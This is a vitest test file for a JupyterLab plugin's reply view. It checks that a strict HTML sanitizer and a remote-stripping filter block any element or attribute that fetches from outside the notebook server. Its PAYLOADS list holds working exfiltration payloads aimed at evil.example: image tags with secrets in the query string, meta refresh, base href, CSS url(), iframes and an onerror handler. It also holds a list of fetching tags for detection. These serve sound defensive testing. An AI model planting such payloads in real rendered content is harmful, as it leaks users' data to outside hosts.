// @vitest-environment jsdom
/**
 * The reply view's own path (ReplyView -> MarkdownBlocks -> Jupyter's real `renderMarkdown` with the reply's strict
 * sanitizer: the real `@jupyterlab/apputils` Sanitizer, the options and render options the plugin passes), over
 * generated layouts and hostile saved data in both forms (`blocks`, and an older version's `markdown`): no element
 * or attribute that fetches from anywhere but the notebook's server, whoever wrote the data. The Markdown parser is
 * marked with the plugins JupyterLab's own parser loads (its extension needs a browser to load; the browser tests
 * run the real one).
 */
import { Sanitizer } from '@jupyterlab/apputils/lib/sanitizer';
import { renderMarkdown } from '@jupyterlab/rendermime/lib/renderers';
import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
import { Marked } from 'marked';
import { gfmHeadingId } from 'marked-gfm-heading-id';
import { mangle } from 'marked-mangle';
import { describe, expect, it } from 'vitest';
import { parseReplyBundle } from '../../src/protocol/parse';
import { ReplyData } from '../../src/protocol/bundles';
import { dropRemote, replyMarkdownOptions, replySanitizer } from '../../src/reply/sanitizer';
import { ReplyView } from '../../src/reply/view';
import { rng } from '../generate';

const marked = new Marked(gfmHeadingId(), mangle());
const parser: IRenderMime.IMarkdownParser = { render: (s: string) => marked.parse(s, { gfm: true, async: true }) };
const OPTIONS = { markdownParser: parser, resolver: null, linkHandler: null, latexTypesetter: null } as unknown as IRenderMime.IRendererOptions;
const STRICT = replySanitizer(new Sanitizer());

/** The view as the plugin builds it, Jupyter's renderMarkdown with `sanitizer` (the reply's, or another to compare). */
function view(sanitizer: IRenderMime.ISanitizer = STRICT): ReplyView {
  const v = new ReplyView({
    renderMarkdown: (host, source) => renderMarkdown(replyMarkdownOptions(host, source, OPTIONS, sanitizer)),
    actions: () => null,
    copy: () => undefined
  });
  document.body.append(v.node);
  return v;
}

async function shown(data: object, sanitizer?: IRenderMime.ISanitizer): Promise<HTMLElement> {
  const v = view(sanitizer);
  await v.update(parseReplyBundle({ kind: 'reply', model: 'm', status: 'done', ...data }) as ReplyData);
  v.dispose();
  v.node.remove();
  return v.node;
}

// ---- what counts as a fetch: found independently of the code under test

const HERE = 'http://localhost:3000/';
const URL_ATTRS = ['src', 'srcset', 'poster', 'background', 'href', 'xlink:href', 'data', 'action', 'formaction', 'cite',
  'longdesc', 'lowsrc', 'dynsrc', 'codebase', 'manifest', 'icon', 'ping', 'content'];
const FETCHING = 'link, meta, base, style, script, iframe, frame, object, embed, video, audio, source, track, picture, svg, image, use, input, form';

function remoteUrl(v: string): boolean {
  const u = v.replace(/[\u0000-\u0020]/g, '');
  if (/^data:/i.test(u) || u === '') return false;
  if (/url=/i.test(u)) return true; // a meta refresh's content
  try {
    return new URL(u, HERE).origin !== new URL(HERE).origin;
  } catch {
    return false;
  }
}

/** Every element or attribute of `root` that would fetch from elsewhere than the page's server (links excepted). */
function fetches(root: Element): string[] {
  const found = Array.from(root.querySelectorAll(FETCHING), e => `<${e.tagName.toLowerCase()}>`);
  for (const e of Array.from(root.querySelectorAll('*'))) {
    for (const n of e.getAttributeNames()) {
      const v = e.getAttribute(n) ?? '';
      const link = n === 'href' && e.tagName === 'A';
      if ((n === 'style' && /url\s*\(|@import|image-set/i.test(v)) || (n === 'srcset' && v.trim()) || (URL_ATTRS.includes(n) && !link && remoteUrl(v))) {
        found.push(`<${e.tagName.toLowerCase()} ${n}="${v.slice(0, 60)}">`);
      }
    }
  }
  return found;
}

// ---- generated layouts


const PAYLOADS = [
  '<img src="http://evil.example/img?d=SECRET">',
  '<img src=//evil.example/pr>',
  '<img src="\\\\evil.example\\bs">',
  '<img src="&#104;ttp://evil.example/entity">',
  '<img src="https:evil.example/noslash">',
  '<video poster="http://evil.example/poster"></video>',
  '<div style="background:url(http://evil.example/style)">x</div>',
  '<p style="background-image: image-set(\'http://evil.example/set\' 1x)">x</p>',
  '<img srcset="http://evil.example/srcset 1x" src="ok.png">',
  '<svg><image href="http://evil.example/svg-image"></image></svg>',
  '<svg><use xlink:href="http://evil.example/use#x"></use></svg>',
  '<link rel="stylesheet" href="http://evil.example/link.css">',
  '<style>@font-face{font-family:x;src:url(http://evil.example/font.woff)} p{background:url(//evil.example/bg)}</style>',
  '<input type="image" src="http://evil.example/input">',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/meta">',
  '<base href="http://evil.example/">',
  '<iframe src="http://evil.example/iframe"></iframe>',
  '<object data="http://evil.example/object"></object>',
  '<embed src="http://evil.example/embed">',
  '<audio src="http://evil.example/audio"></audio>',
  '<video><source src="http://evil.example/source"></video>',
  '<picture><source srcset="http://evil.example/picture"><img src="x.png"></picture>',
  '<table background="http://evil.example/table"><tr><td>x</td></tr></table>',
  '<a href="https://example.com/" ping="http://evil.example/ping">a link</a>',
  '![leak](http://evil.example/md-image)',
  '![leak](//evil.example/md-image2)',
  '[![x](http://evil.example/in-link)](https://example.com)',
  '<img src=x onerror="this.src=\'http://evil.example/onerror\'">'
];
/** What starts a layout: list items that start with code (every fence form, nested), quotes, HTML blocks of every type. */
const LEADS = [
  '- ```\n  a\n  ```', '* ~~~\n  a\n  ~~~', '1. ```\n   a\n   ```', '- - ```\n    a\n    ```', '-     indented code',
  '1.     indented', '- ````\n  ```\n  ````', '> ```\n> a\n> ```', '- > ```\n  > a\n  > ```', '> - ```\n>   a\n>   ```',
  '- ```\n  unclosed', '> > ~~~\n> > a', 'plain paragraph', '- item\n\n  more', '| a | b |\n|---|---|\n| 1 | 2 |',
  '<div>\na\n</div>', '<!--\na\n-->', '<?\na\n?>', '<!X\na\n>', '<![CDATA[\na\n]]>', '<pre>\na\n</pre>', '<x-y>\na',
  '<script>\na\n</script>', '<style>\na\n</style>', '<textarea>\na\n</textarea>'
];
const SEPARATORS = ['\n', '\n\n', '\n\n\n', '\n  \n', '\n\t\n'];
/** Where the payload goes: inside code of every form, in a list or quote, or bare. */
const HOLDERS = [
  (p: string) => '```\n' + p + '\n```', (p: string) => '~~~\n' + p + '\n~~~', (p: string) => '````\n' + p + '\n````',
  (p: string) => '```\nx\n\n' + p + '\n```', (p: string) => '~~~~\n\n' + p + '\n\n~~~~', (p: string) => '- ```\n\n  ' + p + '\n  ```',
  (p: string) => '    ' + p, (p: string) => '- ```\n  ' + p + '\n  ```', (p: string) => '> ```\n> ' + p + '\n> ```',
  (p: string) => '`' + p + '`', (p: string) => '```\n' + p, (p: string) => '1. x\n\n   ```\n   ' + p + '\n   ```',
  (p: string) => p, (p: string) => '- ' + p, (p: string) => '> ' + p, (p: string) => '<div>\n' + p + '\n</div>'
];

function layouts(n: number, seed: number): { doc: string; parts: string[] }[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)];
  const out = [];
  for (let i = 0; i < n; i++) {
    const parts = [pick(LEADS)];
    for (let k = 1 + Math.floor(r() * 3); k > 0; k--) {
      parts.push(pick(HOLDERS)(pick(PAYLOADS)));
    }
    const seps = parts.slice(1).map(() => pick(SEPARATORS));
    out.push({ doc: parts.reduce((a, p, j) => a + seps[j - 1] + p), parts });
  }
  return out;
}

describe("a reply's Markdown in the reply view", () => {
  it('fetches nothing remote from a saved reply of any layout, in either form, whoever wrote it', async () => {
    const docs = layouts(120, 21);
    let checked = 0;
    for (const { doc, parts } of docs) {
      for (const data of [{ markdown: doc }, { blocks: parts }, { blocks: [doc] }]) {
        const node = await shown(data);
        expect(fetches(node), JSON.stringify(data)).toEqual([]);
        checked++;
      }
    }
    expect(checked).toBe(3 * docs.length);
    // the corpus is hostile and the count works: rendered with the notebook's own (default) sanitizer options, as
    // the reply view did before, many would fetch (the others hold their payloads in code)
    let leaky = 0;
    for (const { doc } of docs) {
      const host = document.createElement('div');
      await renderMarkdown(replyMarkdownOptions(host, doc, OPTIONS, new Sanitizer()));
      leaky += +(fetches(host).length > 0);
    }
    expect(leaky).toBeGreaterThan(docs.length / 10);
  }, 240_000);

  it('shows the HTML in a code block as code, whatever layout comes before it, as one block or many', async () => {
    // kernel-style layouts: raw HTML only ever inside code; an older saved reply is its whole `markdown`, one block
    const evil = '<img src="http://evil.example/in-code">';
    const leads = ['- ```\n  a\n  ```', '1. ```\n   a\n   ```', '- - ```\n    a\n    ```', '> ```\n> a\n> ```',
      '- > ```\n  > a\n  > ```', '- ````\n  ```\n  ````', '-     indented code', 'text'];
    const codes = ['```\n' + evil + '\n```', '```\nx\n\n' + evil + '\n```', '````html\n\n' + evil + '\n\n````',
      '- ```\n  x\n\n  ' + evil + '\n  ```', '> ```\n>\n> ' + evil + '\n> ```'];
    for (const lead of leads) {
      for (const code of codes) {
        for (const sep of ['\n\n', '\n\n\n']) {
          for (const data of [{ markdown: lead + sep + code }, { blocks: [lead, code] }]) {
            const node = await shown(data);
            expect(fetches(node)).toEqual([]);
            const inCode = Array.from(node.querySelectorAll('code'), c => c.textContent).filter(t => t!.includes(evil));
            expect(inCode.length, JSON.stringify(data)).toBe(1);
          }
        }
      }
    }
  }, 120_000);

  it('renders an honest reply: code blocks, lists, a table, math, links and local images', async () => {
    const blocks = [
      '**Plan** with `x < y` and a [link](https://example.com/docs).',
      '```python\nfor i in range(3):\n    print(i)\n```',
      '- one\n- two\n  1. nested',
      '| col | n |\n|:--|--:|\n| x | 1 |',
      'Area $\\pi r^2$ and\n$$E = mc^2$$',
      '![plot](plots/fig%201.png) and ![inline](data:image/png;base64,iVBORw0KGgo=)',
      '> quoted *text*'
    ];
    const node = await shown({ blocks });
    expect(node.querySelector('pre code.language-python')!.textContent).toContain('print(i)');
    expect(Array.from(node.querySelectorAll('ul > li'), li => li.firstChild!.textContent!.trim())).toEqual(['one', 'two']);
    expect(node.querySelector('ol li')!.textContent).toBe('nested');
    expect(Array.from(node.querySelectorAll('th, td'), c => [c.textContent, c.getAttribute('align')])).toEqual([
      ['col', 'left'], ['n', 'right'], ['x', 'left'], ['1', 'right']]);
    expect(node.textContent).toContain('$\\pi r^2$');
    expect(node.textContent).toContain('$$E = mc^2$$');
    expect(node.querySelector('a')!.getAttribute('href')).toBe('https://example.com/docs');
    expect(Array.from(node.querySelectorAll('img'), i => i.getAttribute('src'))).toEqual(['plots/fig%201.png', 'data:image/png;base64,iVBORw0KGgo=']);
    expect(node.querySelector('blockquote em')!.textContent).toBe('text');
    expect(node.querySelectorAll('.boop-Block').length).toBe(blocks.length);
    expect(fetches(node)).toEqual([]);
  });
});

describe('the strict sanitizer', () => {
  it('keeps nothing that fetches from every payload, where the default options keep most', () => {
    const html = (dirty: string, s: IRenderMime.ISanitizer) => {
      const d = document.createElement('div');
      d.innerHTML = s.sanitize(dirty, {});
      return d;
    };
    const raw = PAYLOADS.filter(p => p.startsWith('<'));
    for (const p of raw) {
      expect(fetches(html(p, STRICT)), p).toEqual([]);
    }
    expect(raw.filter(p => fetches(html(p, new Sanitizer())).length).length).toBeGreaterThan(raw.length / 3);
    // and whatever options a caller passes, the reply's are used
    expect(fetches(html(PAYLOADS[0], { sanitize: (d: string, o?: IRenderMime.ISanitizerOptions) => STRICT.sanitize(d, { ...o, allowedTags: ['img'] }) }))).toEqual([]);
  });

  it('dropRemote, the second layer, removes what a looser sanitizer let through', () => {
    const d = document.createElement('div');
    d.innerHTML = PAYLOADS.filter(p => p.startsWith('<')).join('') + '<img src="plots/ok.png"><a href="https://example.com/">l</a>';
    expect(fetches(d).length).toBeGreaterThan(10);
    expect(dropRemote(d)).toBeGreaterThan(10);
    expect(fetches(d)).toEqual([]);
    expect(d.querySelector('img[src="plots/ok.png"]')).not.toBeNull();
    expect(d.querySelector('a')!.getAttribute('href')).toBe('https://example.com/');
  });
});

describe('typeset math', () => {
  it('keeps its MathML for screen readers and loses only what points away', () => {
    const d = document.createElement('div');
    d.innerHTML = '<mjx-container><mjx-assistive-mml><math><mi href="http://evil.example/x">y</mi><mi href="#here">z</mi>' +
      '</math></mjx-assistive-mml></mjx-container>';
    expect(dropRemote(d, false)).toBe(1);
    expect(d.querySelector('math')).not.toBeNull();
    expect(d.querySelector('mi')!.hasAttribute('href')).toBe(false);
    expect(d.querySelectorAll('mi')[1].getAttribute('href')).toBe('#here');
  });
});
